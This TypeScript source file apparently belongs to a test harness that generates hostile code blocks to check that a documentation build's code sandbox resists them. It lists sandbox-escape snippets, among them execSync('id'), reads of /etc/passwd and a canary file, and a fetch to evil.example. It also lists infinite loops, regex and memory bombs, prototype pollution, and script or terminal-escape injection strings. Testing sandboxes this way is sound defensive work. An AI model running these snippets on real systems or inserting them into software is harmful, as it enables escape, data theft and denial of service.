import { attackText } from './attack-texts.ts';
import type { Rng } from './seeded.ts';

/** A block of code that the build executes, as a fence. */
export interface HostileBlock {
	kind: 'run' | 'plot' | 'grid' | 'diagram';
	code: string;
}

/** Programs that reach for the machine. */
const ESCAPES = [
	"this.constructor.constructor('return process')().env.GLOSS_CANARY",
	"(() => {}).constructor('return globalThis.process')()?.mainModule ?? 'none'",
	"import('node:fs').then((fs) => fs.readFileSync('../../canary.txt', 'utf8'))",
	"require('child_process').execSync('id').toString()",
	"eval('import.meta.url')",
	"new Function('return this')().process?.env ?? 1",
	"globalThis['pro' + 'cess']?.binding('fs') ?? Object.getOwnPropertyNames(globalThis)",
	"fetch('https://evil.example/')",
	'new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))',
	'new SharedArrayBuffer(8)',
	"std.open('/etc/passwd', 'r'); os.exec(['id'])",
	'scriptArgs',
	'Error.captureStackTrace?.({}) ?? new Error().stack',
	"try { null.x } catch (e) { e.constructor.constructor('return process')() }",
];

/** Programs that do not end, grow, or throw what is hard to print. */
const STRAINS = [
	'for (;;) {}',
	'while (true) Promise.resolve().then(() => {});',
	'(function next() { return Promise.resolve().then(next); })()',
	'async function f() { await f(); } f()',
	"/^(a|aa)+$/.test('a'.repeat(60) + 'b')",
	"/(?:x+x+)+y/.exec('x'.repeat(60))",
	'const a = []; for (;;) a.push(a.slice());',
	"let s = 'x'; for (;;) s += s;",
	"'x'.repeat(2 ** 29)",
	'new Array(2 ** 32 - 1)',
	'Array(2 ** 31).fill(0)',
	'2n ** (2n ** 40n)',
	'(function f() { f(); })()',
	'JSON.parse("[".repeat(1e5) + "]".repeat(1e5))',
	'let o = {}; for (let i = 0; i < 1e5; i++) o = { o }; o',
	'new Proxy({}, { get() { for (;;) {} }, ownKeys() { for (;;) {} } })',
	'({ get a() { for (;;) {} } })',
	'({ toString() { for (;;) {} }, [Symbol.toPrimitive]() { for (;;) {} } })',
	'Object.prototype.toJSON = function () { for (;;) {} }; ({ a: 1 })',
	'Object.prototype.toJSON = () => [[[[1]]]]; ({ a: 1 })',
	"Array.prototype.toJSON = () => ({ t: 'bigint', v: 'x' }); [1]",
	"Object.prototype.toJSON = () => ({ t: 'map', v: [[1]] }); ({ a: 1 })",
	"Object.defineProperty(Array.prototype, 0, { set() {}, get: () => 'x' }); [1, 2]",
	"Object.defineProperty(Object.prototype, 'v', { set() {}, get: () => 1 }); ({ a: 1 })",
	'Array.prototype[Symbol.iterator] = null; Map.prototype.entries = null; new Map([[1, 2]])',
	'throw { get message() { for (;;) {} } }',
	"throw Object.assign(new Error('a\\nb'), { stack: 'example.js:99999999' })",
	"throw new Error('\\u001b[2J\\n::error::owned\\u202e')",
	"throw Object.assign(new Error('x'), { stack: 'example.js:-1', name: '\\u0000' })",
	'throw new Proxy({}, { get() { throw this; } })',
	"String.prototype.slice = () => 'x'.repeat(1e6); throw new Error('long')",
	'throw Symbol("x")',
	'throw undefined',
	'delete globalThis.JSON; delete globalThis.Object; 1',
	'Object.freeze(globalThis); Object.freeze(Object.prototype); ({ a: 1 })',
	"'use strict'; arguments",
	'await 1',
	'return 1',
	'}); process.exit(1); ({',
	'<!-- x\n--> y\n1',
	'let process = 1; let globalThis = 2; process',
	'[, , 1]',
	'new Map([[{}, new Set([new Map()])]])',
	'const m = new Map(); m.set(m, m); m',
	'({ __proto__: null, constructor: 1, __proto: 2 })',
	'JSON.parse(\'{ "__proto__": { "x": 1 }, "constructor": 2 }\')',
	"[{ __proto__: 1, a: '\\u0091' }, { a: '2' }]",
	"'\\u0091' + '0' + '\\u0091'",
	"'\\u0000\\ud800\\u202e\\ufffe'",
	'[Symbol.iterator, () => {}, class A {}, new Date]',
	"new Error('<script>')",
	'[NaN, -0, 1e308, 5e-324, 2 ** 53, 1n]',
	'Array.from({ length: 2000 }, (_, i) => ({ i }))',
	"Array.from({ length: 20 }, () => ({ a: 'x'.repeat(400) }))",
	"Symbol.prototype.description; Symbol('</samp><script>')",
	'Reflect.ownKeys(globalThis).length',
];

/** Texts and numbers that figures are made of. */
const NUMBERS = [
	'0',
	'-0',
	'1',
	'1e308',
	'-1e308',
	'5e-324',
	'NaN',
	'Infinity',
	'1e21',
	'0.1',
	"'1'",
];

/** A figure in which every text and number may be hostile. */
function figure(rng: Rng): HostileBlock {
	const kind = rng.pick(['plot', 'grid', 'diagram'] as const);
	const text = () =>
		rng.chance(0.05) ? `'<b>'.repeat(${10 ** rng.between(2, 6)})` : JSON.stringify(attackText(rng));
	const number = () => (rng.chance(0.8) ? String(rng.below(10)) : rng.pick(NUMBERS));
	const point = () => `[${number()}, ${number()}]`;
	const many = `range(0, 1, ${10 ** rng.between(1, 6)})`;
	const described = `caption: ${text()}, alt: ${text()}`;
	const plot = () => {
		const marks = [
			`{ line: [${point()}, ${point()}], name: ${text()} }`,
			`{ dots: ${many}.map((x) => [x, x * ${number()}]) }`,
			`{ bars: [[${text()}, ${number()}], [${text()}, 2]] }`,
			`{ arrows: [[${number()}, 1, 2, ${number()}]], dashed: true }`,
			`{ area: curve(Math.exp, 0, ${number()}).map(([x, y]) => [x, -y, y]) }`,
			`{ rule: { x: ${number()}, y: ${number()} }, name: ${text()} }`,
			`{ text: [[${number()}, ${number()}, ${text()}]] }`,
			`{ line: ${many}.map((x) => [x, Math.sin(1 / x)]) }`,
		];
		const axis = () =>
			`{ label: ${text()}, scale: '${rng.pick(['linear', 'log'])}', ${rng.pick(['', `domain: ${point()}`, `ticks: [${number()}]`, `ticks: ${many}`])} }`;
		return `marks: [${rng.pick(marks)}, ${rng.pick(marks)}], x: ${axis()}, y: ${axis()}, square: ${rng.chance(0.3)}`;
	};
	const grid = () =>
		`cells: ${rng.pick([`[[${number()}, null], [1, ${number()}]]`, `range(0, 1, 200).map(() => ${many})`])}, rows: [${text()}, ${text()}], columns: [${text()}]`;
	const diagram = () =>
		`nodes: [{ id: 'a', label: ${text()}, at: ${point()} }, { id: ${text()}, label: ${text()}, at: ${point()}, kind: '${rng.pick(['box', 'store', 'plain'])}' }], edges: [{ from: 'a', to: ${rng.pick(["'a'", text()])}, label: ${text()} }]`;
	const content = { plot, grid, diagram }[kind]();
	return { kind, code: `({ ${described}, ${content} })` };
}

/** A program that means harm to the machine, to the time of the build or to the page. */
export function hostileBlock(rng: Rng): HostileBlock {
	const kind = rng.below(10);
	if (kind < 4) return figure(rng);
	const printed = [
		`(${JSON.stringify(attackText(rng))})`,
		`({ ${JSON.stringify(attackText(rng))}: 1 })`,
	];
	const code = kind < 6 ? rng.pick(ESCAPES) : kind < 9 ? rng.pick(STRAINS) : rng.pick(printed);
	const block = rng.pick(['run', 'run', 'run', 'plot', 'grid', 'diagram'] as const);
	return { kind: block, code: rng.chance(0.2) ? `${code};\n${rng.pick(STRAINS)}` : code };
}
